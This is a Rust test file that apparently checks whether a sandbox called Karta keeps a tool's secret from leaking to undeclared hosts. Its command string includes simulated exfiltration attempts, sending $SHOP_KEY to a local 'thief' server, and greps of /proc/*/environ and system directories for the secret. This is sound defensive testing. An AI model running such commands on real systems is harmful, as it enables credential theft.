//! A tool's secret: what it stands for, and where it goes.

use std::net::SocketAddr;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::*;

/// A host that answers with what it got, and tells it.
async fn mirror() -> (SocketAddr, tokio::sync::mpsc::UnboundedReceiver<String>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (tell, heard) = tokio::sync::mpsc::unbounded_channel();
    #[expect(clippy::disallowed_methods, reason = "ends with the test's runtime")]
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut request = Vec::new();
            while !request.windows(4).any(|end| end == b"\r\n\r\n") {
                if stream.read_buf(&mut request).await.unwrap_or(0) == 0 {
                    break;
                }
            }
            let text = String::from_utf8_lossy(&request).into_owned();
            let body = text.replace("\r\n", " ");
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            // Whoever cut the connection gets no answer: what was asked is what the test looks at.
            let _ = stream.write_all(answer.as_bytes()).await;
            if tell.send(text).is_err() {
                break;
            }
        }
    });
    (address, heard)
}

/// Looks for what a secret's placeholder stands for, and sends it elsewhere.
pub(super) async fn take_a_tools_secret(isolation: &str) {
    let (shop, mut sold) = mirror().await;
    let (thief, mut stolen) = mirror().await;
    let manifest = format!(
        "[env]\nSHOP_KEY = {{ secret = true, hosts = [\"{shop}\"] }}\n[policy]\negress = [\"{shop}\", \"{thief}\"]\n"
    );
    let settings =
        format!("isolation = \"{isolation}\"\n[releases]\nloopback = true\n[limits]\nstart_seconds = 300\n");
    let karta = Karta::serve_with(&files(&manifest), &settings, Options::default()).await;
    karta.client.set_secret("app", "SHOP_KEY", &Secret::new(REAL.to_owned())).await.unwrap();
    let session = karta.session().await;
    let ask = "perl ask.pl 127.0.0.1 4181 GET";
    let command = format!(
        "env | grep SHOP_KEY\n\
         {ask} http://{shop}/buy \"x-shop-key: $SHOP_KEY\"\n\
         {ask} http://{thief}/header \"x-shop-key: $SHOP_KEY\"\n\
         {ask} http://{thief}/target?key=$SHOP_KEY\n\
         {ask} http://{thief}/other \"host: {shop}\" \"x-shop-key: $SHOP_KEY\"\n\
         {ask} http://{thief}/fine\n\
         cat /proc/*/environ /proc/*/cmdline 2> /dev/null | grep -a -o 'rea[l]-7e57[0-9a-f]*' && echo FOUND\n\
         grep -r -a -l 'rea[l]-7e57' /workspace /home /tmp /state /run /etc /opt /dev/shm 2> /dev/null && echo FOUND\n\
         echo TRIED"
    );
    let said = said(&karta, session, &command).await;
    assert!(said.contains("SHOP_KEY=karta_secret_") && said.contains("TRIED"), "{said}");
    assert!(!said.contains(REAL) && !said.contains("FOUND"), "{said}");
    let answers: Vec<_> = said.lines().filter(|line| line.starts_with("ANSWER ")).collect();
    assert_eq!(answers.len(), 5, "{said}");
    assert!(answers[0].starts_with("ANSWER 200") && answers[0].contains("karta_secret_"), "{said}");
    for answer in &answers[1..3] {
        assert!(answer.starts_with("ANSWER 403") && answer.contains("is declared for"), "{said}");
    }
    assert!(!answers[3].starts_with("ANSWER 200") && answers[4].starts_with("ANSWER 200"), "{said}");
    let sold = sold.try_recv().unwrap();
    assert!(sold.contains(REAL) && !sold.contains("karta_secret_"), "{sold}");
    let stolen = stolen.try_recv().unwrap();
    assert!(stolen.starts_with("GET /fine") && !stolen.contains(REAL), "{stolen}");

    let (log, data) = karta.stop().await;
    assert!(!log.contains(REAL) && !log.contains(PLANTED));
    absent(&data.path().join("data"), REAL);
}
